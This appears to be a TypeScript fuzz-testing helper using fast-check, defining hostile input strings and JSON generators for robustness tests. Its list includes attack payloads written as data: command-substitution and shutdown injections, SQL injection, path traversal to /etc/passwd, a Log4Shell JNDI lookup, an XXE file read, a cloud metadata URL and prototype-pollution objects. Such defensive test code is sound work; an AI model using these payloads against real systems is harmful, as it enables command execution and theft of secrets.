import fc from 'fast-check';

/** Texts of an attacker, or from a keyboard unlike ours. */
export const hostileTexts: readonly string[] = [
  '',
  ' ',
  '\0',
  'a\0b',
  'two\nlines',
  '\r\n',
  '\u001b[31mred\u0007',
  '\u009b31m',
  '\u202eright to left',
  '\u2028',
  '\u2029',
  '\ufeff',
  '\ud800',
  'half\udfff\ud800half',
  '\ud83d\ude00',
  'Za\u017c\u00f3\u0142\u0107 \u2603 \uff41 \u0130\u00df',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '../../../etc/passwd',
  '/etc/shadow',
  '.',
  '..',
  '~root',
  '-rf',
  '--help',
  '$(id)',
  '`id`',
  '"; shutdown -h now; #',
  "' OR '1'='1",
  '%00%0a%0d',
  '%s%n%x',
  '{name}{uuid}',
  `\${jndi:ldap://x.example.org/a}`,
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  'https://user:pass@host.example.org/',
  'http://169.254.169.254/latest/meta-data/',
  '[outrigger:{"v":1,"uuid":"8f4e2a6c-0e57-4a8b-a8d5-4c4f6d6a7b10"}]',
  'true',
  'null',
  'undefined',
  'NaN',
  '1e309',
  '-0',
  '-1',
  '0x10',
  '3.0',
  '9'.repeat(400),
  'a'.repeat(300),
  '*'.repeat(60),
  ','.repeat(300),
];

export function hostileText(): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 120, arbitrary: fc.constantFrom(...hostileTexts) },
    { weight: 40, arbitrary: anyText() },
    { weight: 20, arbitrary: fc.string({ maxLength: 30 }) },
    {
      weight: 1,
      arbitrary: fc.constantFrom('x'.repeat(70_000), '\u2603'.repeat(20_000), '"\\'.repeat(30_000)),
    },
  );
}

/** Any UTF-16 at all, halves of characters included; the library's own takes a second to set up. */
function anyText(): fc.Arbitrary<string> {
  return fc
    .array(fc.nat({ max: 0xffff }), { maxLength: 30 })
    .map((codes) => String.fromCharCode(...codes));
}

const oddObjects: readonly string[] = [
  '{}',
  '[]',
  '{"toString":1,"valueOf":1}',
  '{"__proto__":{"polluted":"yes"}}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
  '{"length":5}',
  '{"0":"a","1":"b"}',
  '[[[[[[[[]]]]]]]]',
  `${'['.repeat(3000)}${']'.repeat(3000)}`,
  `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`,
];

/** Any JSON value, as its text, so that keys such as `__proto__` stay keys. */
export function hostileJson(): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 80, arbitrary: hostileText().map((text) => JSON.stringify(text)) },
    { weight: 30, arbitrary: fc.constantFrom(...oddObjects) },
    {
      weight: 30,
      arbitrary: fc.constantFrom('null', 'true', 'false', '0', '-1', '3.5', '1e308', '1e999', '-0'),
    },
    { weight: 20, arbitrary: fc.json({ maxDepth: 3 }) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        JSON.stringify(new Array(3000).fill(null)),
        JSON.stringify(new Array(3000).fill({ deviceId: 'x' })),
        JSON.stringify(Object.fromEntries(new Array(3000).fill(0).map((_, i) => [`k${i}`, [i]]))),
      ),
    },
  );
}
